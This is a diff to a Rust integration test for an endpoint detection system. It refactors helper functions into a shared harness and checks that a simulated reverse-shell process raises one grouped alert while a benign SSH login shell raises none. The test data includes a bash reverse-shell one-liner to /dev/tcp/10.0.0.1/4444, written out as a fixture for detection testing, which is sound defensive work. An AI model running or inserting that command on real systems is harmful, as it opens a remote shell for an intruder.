@@ -5,45 +5,9 @@
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
-use vigil_schema::{Col, Row, Table, Timestamp};
 
-use crate::harness::{uplink, wait_until, Fixture};
-
-/// The id of a built-in rule, read from its file (the content is data, not code).
-fn rule_id(rel: &str) -> String {
-    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/rules/linux/").to_string() + rel;
-    let text = std::fs::read_to_string(&path).unwrap();
-    text.lines()
-        .find_map(|l| l.strip_prefix("id: "))
-        .unwrap_or_else(|| panic!("{path} has an id"))
-        .trim()
-        .to_string()
-}
-
-fn exec(image: &str, cmd: &str, parent: &str, user: &str) -> Row {
-    let mut r = Row::event(
-        Table::DeviceProcessEvents,
-        "ProcessCreated",
-        Timestamp::now(),
-    );
-    r.put(Col::FolderPath, image);
-    r.put(Col::FileName, image.rsplit('/').next().unwrap_or(image));
-    r.put(Col::ProcessCommandLine, cmd);
-    r.put(Col::InitiatingProcessFolderPath, parent);
-    r.put(
-        Col::InitiatingProcessFileName,
-        parent.rsplit('/').next().unwrap_or(parent),
-    );
-    r.put(Col::AccountName, user);
-    r.put(Col::ProcessId, 4242i64);
-    r
-}
-
-fn alerts(fx: &Fixture) -> Vec<Value> {
-    let (st, v) = fx.api.get("/api/v1/alerts");
-    assert_eq!(st, 200, "{v}");
-    v.as_array().cloned().unwrap_or_default()
-}
+use crate::harness::Fixture;
+use crate::harness::{exec, rule_id, uplink, wait_until};
 
 #[test]
 fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
@@ -57,6 +21,7 @@ fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
         "-bash",
         "/usr/sbin/sshd",
         "admin",
+        4242,
     )]);
     wait_until("the benign event stored", 30, || {
         up.stats().events_acked == 1
@@ -68,10 +33,13 @@ fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "/usr/sbin/nginx",
         "www-data",
+        4242,
     )]);
     let mut found = None;
     wait_until("the reverse-shell alert", 30, || {
-        found = alerts(&fx)
+        found = fx
+            .api
+            .alerts("")
             .into_iter()
             .find(|a| a["RuleId"] == reverse_shell.as_str());
         found.is_some()
@@ -167,13 +135,14 @@ fn a_reverse_shell_raises_one_grouped_alert_and_a_benign_shell_raises_none() {
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "/usr/sbin/nginx",
         "www-data",
+        4242,
     )]);
     wait_until("the second hit grouped", 30, || {
         let (_, v) = fx.api.get(&format!("/api/v1/alerts/{id}"));
         v["Hits"] == 2
     });
     std::thread::sleep(Duration::from_millis(300));
-    let all = alerts(&fx);
+    let all = fx.api.alerts("");
     assert_eq!(
         all.iter()
             .filter(|a| a["RuleId"] == reverse_shell.as_str())
